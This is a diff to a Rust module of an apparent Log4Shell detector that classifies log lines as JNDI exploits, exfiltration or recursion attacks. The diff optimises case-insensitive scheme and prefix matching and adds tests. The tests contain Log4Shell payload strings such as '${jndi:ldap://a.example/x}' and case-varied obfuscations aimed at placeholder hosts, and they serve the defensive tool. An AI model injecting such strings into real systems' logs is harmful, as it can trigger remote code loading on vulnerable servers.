@@ -1,6 +1,7 @@
 //! Decides what an evaluated line means: a `jndi` exploit (and where it calls home), victim data
 //! sent out, a recursion denial of service, or traces that an exploit already ran.
 
+use std::borrow::Cow;
 use std::sync::LazyLock;
 
 use memchr::memmem::Finder;
@@ -73,7 +74,18 @@ pub enum JndiProtocol {
 impl JndiProtocol {
     /// Maps a URL scheme (any case) to a protocol.
     pub fn from_scheme(scheme: &str) -> Self {
-        match scheme.to_lowercase().as_str() {
+        // Short ASCII schemes (nearly all) are lower-cased on the stack: attackers vary the
+        // case of every letter, and a lower-cased copy on the heap per hit added up.
+        let mut buffer = [0u8; 16];
+        let lower: Cow<'_, str> = match buffer.get_mut(..scheme.len()) {
+            Some(buffer) if scheme.is_ascii() => {
+                buffer.copy_from_slice(scheme.as_bytes());
+                buffer.make_ascii_lowercase();
+                Cow::Borrowed(std::str::from_utf8(buffer).expect("ASCII stays ASCII"))
+            }
+            _ => Cow::Owned(scheme.to_lowercase()),
+        };
+        match lower.as_ref() {
             "ldap" => Self::Ldap,
             "ldaps" => Self::Ldaps,
             "rmi" => Self::Rmi,
@@ -188,11 +200,14 @@ impl JndiTarget {
             authority = &authority[at + 1..];
         }
         let (host, port) = split_port(authority);
-        let host = non_empty(host).map(|h| {
-            if h.contains("${") {
-                h
+        // One copy of the host, lower-cased unless it holds a lookup.
+        let host = (!host.is_empty()).then(|| {
+            if substitutor::find_open(host.as_bytes(), 0).is_some() {
+                host.to_string()
+            } else if host.is_ascii() {
+                host.to_ascii_lowercase()
             } else {
-                h.to_lowercase()
+                host.to_lowercase()
             }
         });
         Self {
@@ -274,8 +289,13 @@ fn unclosed(s: &str) -> usize {
 /// where the line ends, so a lookup left open there was cut by the logger, not by a window.
 pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Finding> {
     let mut evaluation = substitutor::evaluate(decoded, limits);
-    let open = if at_end { unclosed(decoded) } else { 0 };
-    if evaluation.jndi.is_empty() && evaluation.abort.is_none() && open > 0 {
+    // Counting what is left open scans the whole text: only done when it can matter.
+    let open = if at_end && evaluation.jndi.is_empty() && evaluation.abort.is_none() {
+        unclosed(decoded)
+    } else {
+        0
+    };
+    if open > 0 {
         // Log lines get truncated; close what was cut so the lookup can still be judged.
         let closed = format!("{decoded}{}", "}".repeat(open.min(limits.max_depth)));
         let retry = substitutor::evaluate(&closed, limits);
@@ -285,7 +305,7 @@ pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Findi
     }
     let mut findings = Vec::new();
     for call in &evaluation.jndi {
-        let mut finding = Finding::new(HitClass::Jndi, format!("${{jndi:{}}}", call.name));
+        let mut finding = Finding::new(HitClass::Jndi, jndi_payload(&call.name));
         finding.target = JndiTarget::parse(&call.name);
         finding.exfiltration = call.exfiltration.clone();
         findings.push(finding);
@@ -298,7 +318,7 @@ pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Findi
             &evaluation.output
         };
         if let Some(name) = literal_jndi_name(text, at_end) {
-            let mut finding = Finding::new(HitClass::Jndi, format!("${{jndi:{name}}}"));
+            let mut finding = Finding::new(HitClass::Jndi, jndi_payload(&name));
             finding.target = JndiTarget::parse(&name);
             finding.detail = Some("jndi lookup that log4j would not evaluate".to_string());
             findings.push(finding);
@@ -319,11 +339,32 @@ pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Findi
     findings
 }
 
+/// `${jndi:NAME}`, built without the formatting machinery (once per hit).
+fn jndi_payload(name: &str) -> String {
+    let mut payload = String::with_capacity(name.len() + 8);
+    payload.push_str("${jndi:");
+    payload.push_str(name);
+    payload.push('}');
+    payload
+}
+
 /// The name after a literal `${jndi:` (any case), up to its `}` or the end of the token; a name
 /// running to the end of `text` only counts when that is the end of the line.
 fn literal_jndi_name(text: &str, at_end: bool) -> Option<String> {
-    let lower = text.to_ascii_lowercase();
-    let at = lower.find("${jndi:")? + "${jndi:".len();
+    const PREFIX: &[u8] = b"jndi:";
+    let bytes = text.as_bytes();
+    let mut from = 0;
+    let at = loop {
+        let open = substitutor::find_open(bytes, from)?;
+        let name = open + 2;
+        if bytes
+            .get(name..name + PREFIX.len())
+            .is_some_and(|prefix| prefix.eq_ignore_ascii_case(PREFIX))
+        {
+            break name + PREFIX.len();
+        }
+        from = name;
+    };
     let rest = &text[at..];
     let end = rest
         .find(|c: char| c == '}' || c.is_whitespace() || c == '"' || c == '\'')
@@ -444,6 +485,24 @@ mod tests {
         let t = JndiTarget::parse("corbaname:iiop:1.2@h");
         assert_eq!(t.protocol, Some(JndiProtocol::Corba));
         assert_eq!(JndiTarget::parse("x").protocol, None);
+        for scheme in [
+            "LdAp",
+            "ldaps",
+            "RMI",
+            "CorbaName",
+            "Ünï",
+            "ABCDEFGHIJKLMNOPQ",
+            "\u{212a}x",
+        ] {
+            let expected = match scheme.to_lowercase().as_str() {
+                "ldap" => JndiProtocol::Ldap,
+                "ldaps" => JndiProtocol::Ldaps,
+                "rmi" => JndiProtocol::Rmi,
+                "corbaname" => JndiProtocol::Corba,
+                other => JndiProtocol::Other(other.to_string()),
+            };
+            assert_eq!(JndiProtocol::from_scheme(scheme), expected, "{scheme}");
+        }
     }
 
     #[test]
@@ -477,6 +536,38 @@ mod tests {
         assert_eq!(f[0].target.host.as_deref(), Some("cut.example"));
         let f = analyze_one("$${jndi:ldap://esc.example/a}");
         assert_eq!(f[0].class, HitClass::Jndi);
+    }
+
+    #[test]
+    fn literal_jndi_names_match_a_lower_cased_search() {
+        fn reference(text: &str, at_end: bool) -> Option<String> {
+            let lower = text.to_ascii_lowercase();
+            let at = lower.find("${jndi:")? + "${jndi:".len();
+            let rest = &text[at..];
+            let end = rest
+                .find(|c: char| c == '}' || c.is_whitespace() || c == '"' || c == '\'')
+                .unwrap_or(rest.len());
+            (end < rest.len() || at_end).then(|| rest[..end].to_string())
+        }
+        for text in [
+            "$${jndi:ldap://a.example/x}",
+            "x ${JnDi:rmi://b.example/y} ${jndi:dns://c}",
+            "${x} ${jnd ${ ${jndi:ldap://d.example",
+            "İ${JNDI:}",
+            "ä${${jndi:ldap://e.example/a\"b",
+            "${jndi",
+            "${jndi:",
+            "no lookup at all",
+            "",
+        ] {
+            for at_end in [true, false] {
+                assert_eq!(
+                    literal_jndi_name(text, at_end),
+                    reference(text, at_end),
+                    "{text:?} {at_end}"
+                );
+            }
+        }
     }
 
     #[test]
